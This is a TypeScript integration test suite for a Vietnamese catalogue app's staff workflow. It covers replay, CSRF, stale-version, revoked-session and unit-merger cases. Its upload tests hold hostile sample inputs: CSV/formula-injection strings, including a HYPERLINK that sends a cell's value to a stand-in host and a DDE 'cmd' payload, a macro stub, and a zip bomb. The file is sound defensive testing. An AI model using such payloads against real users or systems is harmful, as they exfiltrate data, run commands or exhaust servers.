import { strToU8, zipSync } from 'fflate';
import type { Item } from '#server/items/item.ts';
import { CHECKS } from '#server/items/workflow-event.ts';
import { ask, postForm, type Answer, type Fields } from '../support/ask.ts';
import { aChange, aList, anItem } from '../support/builders.ts';
import { makeXlsx, textRow, type XlsxParts } from '../support/make/make-xlsx.ts';
import { staffPerson, type StaffPerson } from '../support/staff-person.ts';
import { startTestApp, type TestApp } from '../support/start-test-app.ts';

let app: TestApp;
let [sender, librarian, head]: StaffPerson[] = [];
const catalog = () => app.shelf.storage.catalog;
const get = (path: string, who: StaffPerson): Promise<Answer> =>
  ask(app.base, path, { headers: { cookie: who.cookie } });
const post = (path: string, fields: Fields, who: StaffPerson): Promise<Answer> =>
  postForm(app.base, path, fields, { cookie: who.cookie });
const stored = async (item: Item): Promise<Item> => (await catalog().findItem(item.id))!;
const act = (
  item: Item,
  action: string,
  version: number,
  who: StaffPerson,
  fields: Fields = {},
): Promise<Answer> =>
  post(`/can-bo/tai-lieu/${item.id}/${action}`, { version: String(version), ...fields }, who);
const save = (more: Partial<Item> = {}): Promise<Item> =>
  catalog().saveItem(aChange(anItem({ unitId: 'xa-an', ...more })));
const unit = (id: string) => ({
  id,
  code: id,
  name: `Xã ${id}`,
  kind: 'commune' as const,
  parentId: 'so-tu-phap',
  validFrom: null,
  validTo: null,
  successorId: null,
});

beforeAll(async () => {
  app = await startTestApp({ settings: { TWO_PERSON_RULE: 'no' } });
  await catalog().saveUnits(['xa-an', 'xa-binh'].map(unit));
  [sender, librarian, head] = [
    await staffPerson(app, ['contributor'], 'xa-an'),
    await staffPerson(app, ['cataloguer']),
    await staffPerson(app, ['approver']),
  ];
});
afterAll(() => app.close());

describe('a form sent a second time', () => {
  it.each([
    ['gui', 'draft', {}],
    ['doi-chieu', 'submitted', { checks: CHECKS }],
    ['tra-lai', 'submitted', { reason: 'Thiếu trang' }],
    ['duyet', 'verified', { checks: CHECKS }],
    ['go', 'published', { reason: 'Nhầm' }],
  ] as const)(
    '%s is done once; the replay is told and leaves nothing behind',
    async (action, state, fields) => {
      const who = action === 'gui' || action === 'doi-chieu' ? librarian! : head!;
      const item = await save({
        state,
        publishedAt: state === 'published' ? '2026-01-01T00:00:00.000Z' : null,
      });
      expect((await act(item, action, 1, who, fields)).status).toBe(303);
      const [after, events] = [await stored(item), await catalog().events(item.id)];
      for (const version of [1, 2])
        expect((await act(item, action, version, who, fields)).status).toBe(409);
      expect([await stored(item), await catalog().events(item.id)]).toEqual([after, events]);
    },
  );

  it('sent twice at the same moment is done once', async () => {
    const item = await save({ state: 'submitted' });
    const both = await Promise.all(
      [1, 2].map(() => act(item, 'doi-chieu', 1, librarian!, { checks: CHECKS })),
    );
    expect(both.map((a) => a.status).toSorted()).toEqual([303, 409]);
    expect((await catalog().events(item.id)).map((e) => e.action)).toEqual(['verify']);
  });
});

describe('a form that no page gave', () => {
  it('of an item one does not reach, from elsewhere, with steps left out, or with fields of another form changes nothing', async () => {
    const [own, foreign] = [await save(), await save({ unitId: 'xa-binh' })];
    expect((await act(foreign, 'gui', 1, sender!)).status).toBe(403);
    expect((await act(own, 'doi-chieu', 1, librarian!, { checks: CHECKS })).status).toBe(409);
    expect((await act(own, 'duyet', 1, sender!, { checks: CHECKS })).status).toBe(403);
    expect((await act(own, 'luu', 1, sender!, { ...VALID, unitId: 'xa-binh' })).status).toBe(400);
    expect(
      (
        await act(own, 'luu', 1, sender!, {
          ...VALID,
          state: 'published',
          publishedAt: '2026-01-01',
          id: foreign.id,
          compiledBy: 'ai-khac',
        })
      ).status,
    ).toBe(303);
    expect(await stored(own)).toMatchObject({
      id: own.id,
      state: 'draft',
      unitId: 'xa-an',
      publishedAt: null,
    });
    for (const headers of [
      { origin: 'https://xau.example' },
      { origin: 'null' },
      { origin: app.base, 'sec-fetch-site': 'cross-site' },
    ]) {
      expect(
        (
          await postForm(
            app.base,
            `/can-bo/tai-lieu/${own.id}/gui`,
            { version: '2' },
            { cookie: sender!.cookie, ...headers },
          )
        ).status,
      ).toBe(403);
    }
    expect([(await stored(own)).version, (await stored(foreign)).version]).toEqual([2, 1]);
  });
});

const VALID = {
  title: 'Tên sửa',
  genre: 'cam-nang',
  compilers: 'Sở Tư pháp',
  issued: '2026',
  abstract: 'Giới thiệu.',
  subjects: '44',
  language: 'vi',
  validityState: 'con',
  rightsKind: 'duoc_phep',
} satisfies Fields;

describe('an old version', () => {
  it.each([
    ['gui', 'draft', {}],
    ['doi-chieu', 'submitted', { checks: CHECKS }],
    ['tra-lai', 'verified', { reason: 'Thiếu trang' }],
    ['duyet', 'verified', { checks: CHECKS }],
    ['go', 'published', { reason: 'Nhầm' }],
    ['dang-lai', 'withdrawn', {}],
    ['luu', 'draft', VALID],
  ] as const)('is not acted on by %s, and the person is told', async (action, state, fields) => {
    const item = await save({
      state,
      publishedAt:
        state === 'published' || state === 'withdrawn' ? '2026-01-01T00:00:00.000Z' : null,
    });
    const seen = { ...item, title: 'Đã sửa trong lúc đó' };
    await catalog().saveItem(aChange(seen));
    const admin = { id: '', username: 'admin', cookie: await app.signIn() };
    const told = await act(item, action, 1, admin, fields);
    expect([told.status, told.words.includes('Tài liệu vừa được người khác sửa')]).toEqual([
      409,
      true,
    ]);
    expect(await stored(item)).toMatchObject({ version: 2, state, title: 'Đã sửa trong lúc đó' });
  });
});

describe('a session whose person lost the right meanwhile', () => {
  it.each([
    ['another role', { roles: ['auditor'] as const }, 403],
    ['another unit', { unitId: 'xa-binh' }, 403],
    ['no account', { disabled: true }, 401],
  ])('by %s ends with the next step', async (_, change, status) => {
    const who = await staffPerson(app, ['cataloguer'], 'xa-an');
    const item = await save({ state: 'submitted' });
    expect((await get(`/can-bo/tai-lieu/${item.id}/duyet`, who)).status).toBe(200);
    await catalog().changeAccount(who.id, change);
    const answers = [
      await act(item, 'doi-chieu', 1, who, { checks: CHECKS }),
      await act(item, 'nhan', 1, who),
      await act(item, 'y-kien', 1, who, { comment: 'x' }),
      await post(
        '/can-bo/hang-loat',
        { viec: 'tra-lai', buoc: 'lam', reason: 'x', chon: `${item.id}.1` },
        who,
      ),
    ];
    expect(answers.slice(0, 3).map((a) => a.status)).toEqual([status, status, status]);
    expect(await stored(item)).toEqual(item);
    expect(await catalog().events(item.id)).toEqual([]);
  });
});

describe('a unit that is merged while items wait in its queue', () => {
  it('leaves them where they wait, for its own people and the successor’s, who go on with them', async () => {
    await catalog().saveUnits([unit('xa-dong'), unit('xa-dong-nam')]);
    const [old, next] = [
      await staffPerson(app, ['cataloguer'], 'xa-dong'),
      await staffPerson(app, ['cataloguer', 'approver'], 'xa-dong-nam'),
    ];
    const [sent, compared] = [
      await save({ unitId: 'xa-dong', state: 'submitted', title: 'Đang chờ ở xã Đông' }),
      await save({ unitId: 'xa-dong', state: 'verified', title: 'Chờ duyệt ở xã Đông' }),
    ];
    const open = await get(`/can-bo/tai-lieu/${sent.id}/duyet`, old);
    expect((await get('/can-bo', next)).words).not.toContain('Đang chờ ở xã Đông');
    await catalog().saveUnits([{ ...unit('xa-dong'), successorId: 'xa-dong-nam' }]);
    expect((await get('/can-bo?trang-thai=submitted', next)).texts('h3')).toEqual([
      'Đang chờ ở xã Đông',
    ]);
    expect((await get('/can-bo/thong-bao', next)).words).toMatch(
      /Chờ đối chiếu1 tài liệu.*Chờ duyệt1 tài liệu/u,
    );
    // The form that was open before the merger is still good.
    expect(
      (await act(sent, 'doi-chieu', Number(open.value('version')), old, { checks: CHECKS })).status,
    ).toBe(303);
    expect((await act(compared, 'duyet', 1, next, { checks: CHECKS })).status).toBe(303);
    expect([
      (await stored(sent)).state,
      (await stored(compared)).state,
      (await stored(compared)).unitId,
    ]).toEqual(['verified', 'published', 'xa-dong']);
  });
});

describe('a sheet that means harm, or was only saved badly', () => {
  const send = async (name: string, content: Uint8Array): Promise<Answer> => {
    const part = [
      Buffer.from(
        `--b0\r\nContent-Disposition: form-data; name="sheet"; filename="${name}"\r\n\r\n`,
      ),
      Buffer.from(content),
      Buffer.from('\r\n--b0--\r\n'),
    ];
    const answer = await ask(app.base, '/can-bo/nhap-bang', {
      method: 'POST',
      headers: {
        origin: app.base,
        cookie: librarian!.cookie,
        'content-type': 'multipart/form-data; boundary=b0',
      },
      body: Buffer.concat(part),
    });
    return answer.headers.location === undefined
      ? answer
      : get(answer.headers.location, librarian!);
  };
  const book = (
    data: string,
    more: Partial<XlsxParts['sheets'][number]> = {},
    parts: Partial<XlsxParts> = {},
  ): Uint8Array =>
    makeXlsx({
      sheets: [{ name: 'Kê', data: textRow(1, ['Mã định danh', 'Tên']) + data, ...more }],
      ...parts,
    });
  const cell = (ref: string, inner: string, kind = 'str'): string =>
    `<c r="${ref}" t="${kind}">${inner}</c>`;

  it.each<[string, string, () => Uint8Array, RegExp]>([
    [
      'formulas',
      'a.xlsx',
      () =>
        book(
          `<row r="2">${cell('A2', '<f>CONCAT("F","1")</f><v>F-1</v>')}${cell('B2', '<f>HYPERLINK("http://xau.example")</f><v>Từ công thức</v>')}</row><row r="3">${cell('A3', '<f>NOW()</f>')}${cell('B3', '<v>Chưa tính</v>')}</row>`,
        ),
      /Từ công thức.*Sẽ thêm.*Chưa tính.*Không nhận.*công thức chưa có kết quả/u,
    ],
    [
      'macros',
      'a.xlsm',
      () =>
        book(
          textRow(2, ['M-1', 'Có macro']),
          {},
          { more: { 'xl/vbaProject.bin': strToU8('Sub Auto_Open()') } },
        ),
      /Có macro.*Sẽ thêm/u,
    ],
    [
      '1,048,576 empty rows',
      'a.xlsx',
      () =>
        book(
          textRow(2, ['E-1', 'Một dòng thật']) +
            Array.from(
              { length: 1_048_574 },
              (_, i) => `<row r="${i + 3}"><c r="A${i + 3}" s="0"/></row>`,
            ).join(''),
        ),
      /Một dòng thật.*Sẽ thêm/u,
    ],
    [
      'merged cells',
      'a.xlsx',
      () =>
        book(textRow(2, ['G-1', 'Ô gộp']) + textRow(3, ['G-2', 'Ô thường']), {
          after: '<mergeCells count="1"><mergeCell ref="A2:B2"/></mergeCells>',
        }),
      /Ô gộp.*Không nhận.*ô gộp \(A2:B2\).*Ô thường.*Sẽ thêm/u,
    ],
    [
      'another sheet than the catalogue',
      'a.xlsx',
      () =>
        makeXlsx({
          sheets: [
            { name: 'Bảng lương', data: textRow(1, ['Họ', 'Lương']) + textRow(2, ['Nguyễn', '1']) },
          ],
        }),
      /Bảng lương.*Không có dòng nào để ghi/u,
    ],
    [
      'a bomb',
      'a.xlsx',
      () => makeXlsx({ sheets: [{ name: 'x', data: ' '.repeat(300 * 2 ** 20) }] }),
      /bung ra quá lớn/u,
    ],
    [
      'a bomb in a ZIP of another kind',
      'a.xlsx',
      () => zipSync({ 'a.txt': strToU8('x') }),
      /Bảng kê không đọc được/u,
    ],
  ])(
    '%s: each line is told its fate, nothing is written, the shelf goes on',
    async (_, name, content, words) => {
      const before = (await catalog().listItems(aList({ limit: 500 }))).rows.length;
      const bytes = content();
      // Making them took seconds in which the shelf closed idle connections: that has to be noticed
      // first.
      await new Promise((resolve) => {
        setTimeout(resolve, 100);
      });
      const page = await send(name, bytes);
      expect(page.words).toMatch(words);
      expect((await catalog().listItems(aList({ limit: 500 }))).rows).toHaveLength(before);
      expect((await ask(app.base, '/')).status).toBe(200);
      // A million rows and 300 MB are made here too, on a machine that may be busy.
    },
    300_000,
  );

  it('sends no formula out again: not in the catalogue, not in the report', async () => {
    const hostile = [
      '=HYPERLINK("http://xau.example?"&A1,"mở")',
      '+1+1',
      '-2+3',
      '@SUM(A1)',
      '\t=1+1',
      "=cmd|' /C calc'!A0",
    ];
    for (const title of hostile) await save({ title, publisher: title });
    const lines = `Mã định danh;Tên\n${hostile.map((t, i) => `CSV-${i};"${t.replaceAll('"', '""')}"`).join('\n')}\n`;
    const plan = await send('b.csv', strToU8(lines));
    const path = /\/can-bo\/nhap-bang\/[0-9a-z]{13}/u.exec(plan.html)![0];
    for (const csv of [
      (await get('/can-bo/nhap-bang/danh-muc.csv', librarian!)).html,
      (await get(`${path}/ket-qua.csv`, librarian!)).html,
    ]) {
      expect(csv).toContain("'=HYPERLINK");
      expect(
        csv
          .replace('\ufeff', '')
          .split(/\r\n|,(?=(?:[^"]*"[^"]*")*[^"]*$)/u)
          .filter((c) => /^"?\s*[=+\-@]/u.test(c)),
      ).toEqual([]);
    }
  });
});
